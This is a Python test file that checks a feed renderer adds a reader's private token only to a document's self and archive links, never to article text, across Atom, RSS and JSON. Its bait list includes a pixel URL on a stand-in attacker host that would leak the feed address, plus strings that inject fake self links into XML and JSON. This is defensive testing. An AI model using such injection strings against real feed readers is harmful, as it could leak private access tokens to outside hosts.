"""A reader's token stands in the links of a private document to itself, and never in what an article says."""

from __future__ import annotations

import json
from dataclasses import replace
from xml.etree import ElementTree

import pytest

from helpers.feed_builders import SITE, make_entry, make_feed
from refeed.feeds.access_tokens import personalize
from refeed.model import Feed, FeedEntry, Format, Image, Person, SafeHtml, Source
from refeed.render.formats import RENDERERS

ANN, BOB = "a" * 32, "b" * 32
OWN = f"{SITE.base_url}/feeds/topic/climate"
BAITS = [
    f"http://evil.example/p.gif?u={OWN}.atom",
    f"{OWN}.json",
    f"{OWN}/archive/2026-01.rss",
    f'<link href="{OWN}.atom" rel="self"/>',
    f'\n "feed_url": "{OWN}.json"',
    f'" href="{OWN}.rss" rel="self',
    f'<!-- --><atom:link xmlns:atom="http://www.w3.org/2005/Atom" href="{OWN}.rss" rel="self"/><item>',
    f'\n "items": [\n "next_url": "{OWN}.json"',
]


def hostile_feed(bait: str, **fields: object) -> Feed:
    """A feed in which every text and address of an article, its source and the feed is the bait."""
    entry = make_entry(
        link=f"https://www.bbc.com/{bait}",
        title=bait,
        summary=bait,
        html=SafeHtml(f'<p>{bait}</p><img src="{bait}">'),
        authors=(bait,),
        contributors=(Person(name=bait, role=bait),),
        image=Image(url=bait, caption=bait, credit=bait),
        images=(bait,),
        rights=bait,
        original=bait,
        tags=(bait,),
        section=bait,
    )
    source = Source(id="bbc", title=bait, link=bait)
    feed = make_feed(FeedEntry(entry=entry, source=source, labels=(("climate", bait),), repost_links=(bait,)))
    info = replace(feed.info, title=bait, subtitle=bait, icon=bait, logo=bait, link=bait)
    return replace(feed, info=info, **fields)  # type: ignore[arg-type]


def own_links(document: bytes, format: Format) -> list[str]:
    """The links of a document to documents of its feed, as a parser finds them."""
    if format == "json":
        feed = json.loads(document)
        return [feed[name] for name in ("feed_url", "next_url") if name in feed]
    root = ElementTree.fromstring(document)
    links = root.iterfind("{*}link" if format == "atom" else "channel/{*}link")
    return [
        link.attrib["href"] for link in links if link.get("rel") in ("self", "current", "prev-archive", "next-archive")
    ]


@pytest.mark.parametrize("format", ["atom", "rss", "json"])
@pytest.mark.parametrize("bait", BAITS)
@pytest.mark.parametrize("archive", [None, "2026-01"])
def test_only_the_links_of_a_document_to_itself_have_the_token(format: Format, bait: str, archive: str | None) -> None:
    document = RENDERERS[format](hostile_feed(bait, archive=archive, previous="2025-12"))
    ann, bob = (personalize(document, SITE.base_url, token) for token in (ANN, BOB))
    expected = [link.replace("/feeds/", f"/k/{ANN}/feeds/") for link in own_links(document, format)]
    assert own_links(ann, format) == expected
    assert len(expected) >= 2
    assert ann.count(ANN.encode()) == len(expected)
    assert ann.replace(ANN.encode(), BOB.encode()) == bob
    assert ann.replace(f"/k/{ANN}".encode(), b"") == document


@pytest.mark.parametrize("format", ["atom", "rss", "json"])
def test_a_document_without_entries_has_the_token_too(format: Format) -> None:
    document = RENDERERS[format](make_feed())
    assert personalize(document, SITE.base_url, ANN).count(f"{SITE.base_url}/k/{ANN}/feeds/".encode()) == 1
